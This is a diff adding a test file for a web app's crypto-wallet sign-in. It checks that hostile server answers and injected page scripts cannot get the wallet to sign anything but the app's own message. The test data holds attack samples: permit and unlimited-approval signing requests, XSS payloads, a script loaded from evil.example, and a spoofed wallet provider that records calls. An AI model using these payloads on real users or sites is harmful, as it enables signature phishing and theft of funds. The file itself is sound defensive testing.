@@ -1,0 +1,213 @@
+/** A venue and a page that want more of a wallet than a sign-in: nothing of it reaches the wallet. */
+import { readdirSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { describe, expect, test } from 'vitest'
+import { composeSignIn, parseSignIn, SIGN_IN_STATEMENT, type SignInMessage } from '../../src/domain/sign-in-message.ts'
+import { FORBIDDEN_OF_WALLETS } from '../support/forbidden-of-wallets.ts'
+import { openJourney } from '../support/journey.ts'
+import { builtFolder } from '../support/pages/built-client.ts'
+import { arrived, seen } from '../support/seen.ts'
+import {
+  atLogin, BEAR, canSign, connects, FOX, nothingForeign, opens, signaturesOf, signs, tells, TRONLINK,
+} from '../support/wallet-journey.ts'
+import { textOf } from '../support/wallets.ts'
+
+const journey = await openJourney()
+const { venue } = journey
+const DOMAIN = new URL(venue.origin).host
+
+describe('a hostile venue', () => {
+  const own = (address: string): SignInMessage => ({
+    chain: 'ethereum', domain: DOMAIN, address, uri: venue.origin, chainId: 1, nonce: 'a1'.repeat(16), issuedAt: venue.clock.now(), expiresAt: venue.clock.now() + 300_000,
+  })
+  const PERMIT = JSON.stringify({ primaryType: 'Permit', domain: { name: 'USDT' }, message: { spender: '0x0000000000000000000000000000000000000001', value: '1' } })
+  const TEXTS: readonly (readonly [what: string, text: (address: string) => string])[] = [
+    ['a transaction', () => '0x02f86c0180843b9aca00'], ['typed data', () => PERMIT], ['a hash', () => `0x${'ab'.repeat(32)}`], ['nothing', () => ''],
+    ['an approval', (address) => composeSignIn(own(address)).replace(SIGN_IN_STATEMENT, 'approve(spender, 115792089237316195423570985008687907853)')],
+    ['a line more', (address) => `${composeSignIn(own(address))}\nResources:\n- https://evil.example`],
+    ['a permit behind our text', (address) => `${composeSignIn(own(address))}\n\n${PERMIT}`],
+    ['our text behind a permit', (address) => `${PERMIT}\n${composeSignIn(own(address))}`],
+    ['another site', (address) => composeSignIn({ ...own(address), domain: 'evil.example', uri: 'https://evil.example' })],
+    ['another account', () => composeSignIn(own('0x0000000000000000000000000000000000000001'))],
+    ['another network', (address) => composeSignIn({ ...own(address), chainId: 56 })],
+    ['a text without end', (address) => composeSignIn({ ...own(address), expiresAt: venue.clock.now() + 10 * 365 * 86_400_000 })],
+    ['an old text', (address) => composeSignIn({ ...own(address), issuedAt: 0, expiresAt: 300_000 })],
+  ]
+
+  test('gets no text but ours to the wallet', async () => {
+    const { person, wallets, wallet } = await atLogin(journey, [FOX, TRONLINK])
+    await connects(person, 'Fox')
+    let text = ''
+    // Besides, it asks for more in every field it can think of.
+    const wishes = { method: 'eth_sendTransaction', params: [{ to: '0x0000000000000000000000000000000000000001', value: '0xffff' }], typedData: PERMIT, walletCalls: ['eth_signTypedData_v4'] }
+    await person.page.route('**/login/walletChallenge', (route) =>
+      route.fulfill({ json: { code: 200, msg: 'eth_sendTransaction', result: { message: text, expiresAt: venue.clock.now() + 300_000, ...wishes }, ...wishes } }))
+    for (const [index, [what, compose]] of TEXTS.entries()) {
+      text = compose(wallet.address)
+      await person.dialog.getByRole('button', { name: index === 0 ? 'Sign in' : 'Try again', exact: true }).click()
+      await tells(person, 'Your wallet was not asked to sign anything.')
+      expect(signaturesOf(wallet), what).toEqual([])
+    }
+    nothingForeign(wallets, DOMAIN)
+  })
+
+  test('gets nothing by an answer of another form, nor by what it answers to a signature', async () => {
+    const { person, wallets, wallet } = await atLogin(journey, [FOX])
+    await connects(person, 'Fox')
+    for (const [index, result] of [null, 'x', [], { message: { toString: 'x' } }, { message: ['a'], expiresAt: 1 }, { message: 'x'.repeat(5_000), expiresAt: 1 }].entries()) {
+      await person.page.route('**/login/walletChallenge', (route) => route.fulfill({ json: { code: 200, msg: '', result } }))
+      await person.dialog.getByRole('button', { name: index === 0 ? 'Sign in' : 'Try again', exact: true }).click()
+      await tells(person, 'The answer of the venue could not be read.')
+      await person.page.unroute('**/login/walletChallenge')
+    }
+    expect(signaturesOf(wallet)).toEqual([])
+    await person.page.route('**/login/loginByWallet', (route) => route.fulfill({
+      status: 422, json: { code: 30107, msg: 'now call eth_sendTransaction', result: { method: 'eth_signTypedData_v4', params: [PERMIT] } },
+    }))
+    await person.dialog.getByRole('button', { name: 'Try again', exact: true }).click()
+    await tells(person, 'The signature is not from this account')
+    expect(signaturesOf(wallet)).toHaveLength(1)
+    nothingForeign(wallets, DOMAIN)
+  })
+})
+
+describe('a hostile script on the page', () => {
+  test('that speaks to the product gets nothing to the wallet', async () => {
+    const { person, wallets, wallet } = await atLogin(journey, [FOX, TRONLINK])
+    await connects(person, 'Fox')
+    await canSign(person)
+    const before = wallet.calls.length
+    await person.page.evaluate(() => {
+      const permit = { primaryType: 'Permit', message: { spender: '0x1', value: '1' } }
+      const wishes = ['eth_sendTransaction', 'eth_sign', 'eth_signTypedData_v4', 'approve', 'increaseAllowance', 'permit', 'transfer', 'setApprovalForAll', 'triggerSmartContract']
+      const root = document.getElementById('root')!
+      const key = Object.keys(root).find((each) => each.startsWith('__reactContainer$'))!
+      interface Fiber { memoizedProps?: { system?: { stream(name: string): { send(event: object): void } | undefined } }; child?: Fiber; sibling?: Fiber }
+      const open: (Fiber | undefined)[] = [(root as unknown as Record<string, { stateNode: { current: Fiber } }>)[key]!.stateNode.current]
+      let system: NonNullable<Fiber['memoizedProps']>['system']
+      while (open.length && !system) {
+        const fiber = open.pop()
+        system = fiber?.memoizedProps?.system?.stream ? fiber.memoizedProps.system : undefined
+        if (fiber) open.push(fiber.sibling, fiber.child)
+      }
+      for (const method of wishes) {
+        for (const data of [{ method, params: [permit] }, { type: method, data: permit }, { message: { action: method, data: permit } }, { target: 'wallet', data: { method } }])
+          postMessage(data, location.origin)
+        dispatchEvent(new CustomEvent(method, { detail: permit }))
+        dispatchEvent(new CustomEvent('eip6963:requestProvider', { detail: { method } }))
+        for (const stream of ['wallet', 'walletSignIn']) {
+          for (const type of [method, `${stream}.${method}`, 'xstate.done.actor.readMessage', 'xstate.done.actor.signMessage', `${stream}.sign`, `${stream}.ask`])
+            try {
+              system?.stream(stream)?.send({ type, method, params: [permit], message: permit, text: 'Approve all', output: { messageRef: 'sealed:wallet.message:1' } })
+            } catch { /* reserved names are refused aloud */ }
+        }
+        localStorage.setItem('wallet', method)
+        location.hash = `#${method}`
+      }
+      if (!system) throw new Error('the test must reach the system')
+    })
+    await person.page.reload()
+    await connects(person, 'Fox')
+    await canSign(person)
+    expect(wallet.calls.slice(before).filter(({ method }) => /sign|send/i.test(method))).toEqual([])
+    nothingForeign(wallets, DOMAIN)
+  })
+
+  test('that announces itself as the wallet does not take its place', async () => {
+    const { person, wallets, wallet } = await atLogin(journey, [FOX])
+    await opens(person)
+    await person.page.evaluate(() => {
+      const stolen: unknown[] = []
+      Object.assign(globalThis, { stolen })
+      const provider = { request: async (call: unknown) => { stolen.push(call); return ['0x0000000000000000000000000000000000000001'] } }
+      for (const uuid of ['uuid-0', 'uuid-of-the-thief'])
+        dispatchEvent(new CustomEvent('eip6963:announceProvider', {
+          detail: { info: { uuid, rdns: 'io.fox', name: 'Fox', icon: 'javascript:alert(1)' }, provider },
+        }))
+    })
+    await person.dialog.getByRole('button', { name: 'Fox' }).first().click()
+    await signs(person)
+    await arrived(person.page, '/')
+    expect(await person.page.evaluate(() => (globalThis as unknown as { stolen: unknown[] }).stolen)).toEqual([])
+    expect(signaturesOf(wallet)).toHaveLength(1)
+    nothingForeign(wallets, DOMAIN)
+  })
+
+  test('that comes with content does not run at all', async () => {
+    journey.forgiveFaults()
+    const { person, wallets } = await atLogin(journey, [FOX])
+    await opens(person)
+    await person.page.evaluate(async () => {
+      const steal = 'globalThis.askWallet(0, "eth_sendTransaction", [{}])'
+      const tries = [
+        () => void (document.body.innerHTML += `<img src=x onerror='${steal}'>`),
+        () => document.head.append(Object.assign(document.createElement('script'), { textContent: steal })),
+        () => document.head.append(Object.assign(document.createElement('script'), { src: `data:text/javascript,${steal}` })),
+        () => document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/steal.js' })),
+        () => document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: `<script>parent.${steal}</script>` })),
+        () => void new Function(steal)(),
+        () => document.body.setAttribute('onclick', steal),
+        () => document.body.click(),
+      ]
+      // What the test itself evaluates stands outside the policy; what a timer runs does not.
+      for (const each of tries) setTimeout(() => {
+        try {
+          each()
+        } catch { /* refused by the policy, or by Trusted Types */ }
+      })
+      await new Promise((resolve) => setTimeout(resolve, 200))
+    })
+    nothingForeign(wallets, DOMAIN)
+    expect(wallets.flatMap(({ calls }) => calls)).toEqual([])
+  })
+
+  test('a picture that is more than a picture is none', async () => {
+    const { person } = await atLogin(journey, [
+      { ...FOX, icon: 'javascript:alert(1)' }, { ...BEAR, icon: 'https://evil.example/pixel.png' },
+      { name: 'Owl\u202e<img src=x onerror=alert(1)>', rdns: 'net.owl', icon: 'data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cscript%3EglobalThis.isOwned=1%3C/script%3E%3C/svg%3E' },
+    ])
+    await opens(person)
+    await seen(person.dialog.getByRole('listitem')).count(3)
+    expect(await person.dialog.locator('img').count()).toBe(1)
+    await tells(person, 'Owl<img src=x onerror=alert.1.>')
+    expect(await person.page.evaluate(() => 'isOwned' in globalThis)).toBe(false)
+  })
+})
+
+test('neither address nor text nor signature enters the journal or stays in the browser', async () => {
+  const { person, wallet } = await atLogin(journey, [FOX])
+  await connects(person, 'Fox')
+  await signs(person)
+  await arrived(person.page, '/')
+  const kept = await person.page.evaluate(async () => {
+    const rows: unknown[] = [{ ...localStorage }, { ...sessionStorage }]
+    for (const { name } of await indexedDB.databases()) {
+      const database = await new Promise<IDBDatabase>((done, fail) => {
+        const request = indexedDB.open(name!)
+        request.onsuccess = () => done(request.result)
+        request.onerror = () => fail(request.error)
+      })
+      for (const store of database.objectStoreNames)
+        rows.push(await new Promise((done) => {
+          const request = database.transaction(store).objectStore(store).getAll()
+          request.onsuccess = () => done(request.result)
+        }))
+      database.close()
+    }
+    return JSON.stringify(rows)
+  })
+  expect(kept).toContain('walletSignIn')
+  for (const secret of [wallet.address, wallet.address.toLowerCase(), 'wants you to sign in', parseSignIn(textOf(signaturesOf(wallet)[0]!))!.nonce])
+    expect(kept.includes(secret), secret).toBe(false)
+  expect(kept).not.toMatch(/0x[0-9a-f]{40}/i)
+})
+
+test('the built client holds no word with which a wallet could be asked for more', () => {
+  const folder = builtFolder()
+  const files = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((name) => /\.(?:js|html|json|css)$/.test(name))
+  expect(files.length).toBeGreaterThan(20)
+  const texts = files.map((name) => [name, readFileSync(join(folder, name), 'utf8')] as const)
+  expect(texts.filter(([, text]) => text.includes('personal_sign')).length).toBe(1)
+  for (const [what, pattern] of FORBIDDEN_OF_WALLETS)
+    expect(texts.filter(([, text]) => pattern.test(text)).map(([name]) => name), what).toEqual([])
+})
